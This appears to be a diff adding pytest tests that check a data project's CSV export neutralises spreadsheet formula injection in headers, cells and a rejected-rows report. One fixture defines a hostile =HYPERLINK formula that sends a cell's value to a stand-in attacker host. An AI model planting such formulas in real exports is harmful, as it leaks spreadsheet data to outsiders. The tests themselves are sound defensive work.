@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 from polars.testing import assert_frame_equal
 
 from analysis.export import FORMULA_START, protect_formulas, safe_filename, to_parquet, to_safe_csv
+from analysis.ingest import load_events
 
 
 @pytest.mark.parametrize("start", FORMULA_START)
@@ -71,3 +72,38 @@ def test_every_file_name_is_safe(text: str) -> None:
     assert name and len(name) <= 80
     assert all(c.isascii() and (c.isalnum() or c in "._-") for c in name)
     assert not name.startswith((".", "-")) and ".." not in name
+
+
+HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+@pytest.mark.parametrize("start", FORMULA_START)
+def test_a_header_starting_with_a_formula_character_is_neutralised(start: str) -> None:
+    data = to_safe_csv(pl.DataFrame({f"{start}cmd": ["x"], "ok": ["y"]}))
+    header = pl.read_csv(io.BytesIO(data)).columns
+    assert header == [f"'{start}cmd", "ok"]
+
+
+@pytest.mark.parametrize("equals", ["\uff1d", "\ufe66"])
+def test_fullwidth_and_small_form_equals_are_protected_in_cells_and_headers(equals: str) -> None:
+    out = protect_formulas(pl.DataFrame({f"{equals}1+1": [f"{equals}SUM(A1)"]}))
+    assert out.columns == [f"'{equals}1+1"]
+    assert out.item() == f"'{equals}SUM(A1)"
+
+
+def test_the_rejected_rows_csv_protects_a_hostile_column_name() -> None:
+    header = f'user_id,timestamp,event,"{HOSTILE_HEADER.replace(chr(34), chr(34) * 2)}"\n'
+    good = "".join(f"u{i},2026-01-0{i} 10:00:00,view,x\n" for i in range(1, 6))
+    csv = header + good + "u9,2026-01-01 10:00:00,,x\n"
+    report = load_events(("hostile.csv", csv.encode()), max_rejected_share=0.5).report
+    first_line = report.rejected_rows_csv().decode().splitlines()[0]
+    assert "=HYPERLINK" in first_line
+    assert not any(cell.lstrip('"').startswith("=") for cell in first_line.split(","))
+
+
+@given(st.text(min_size=1, max_size=12))
+def test_no_header_or_cell_of_safe_csv_starts_like_a_formula(text: str) -> None:
+    frame = pl.DataFrame({text: [text]})
+    out = protect_formulas(frame)
+    for value in [*out.columns, out.item()]:
+        assert not value.startswith(FORMULA_START)
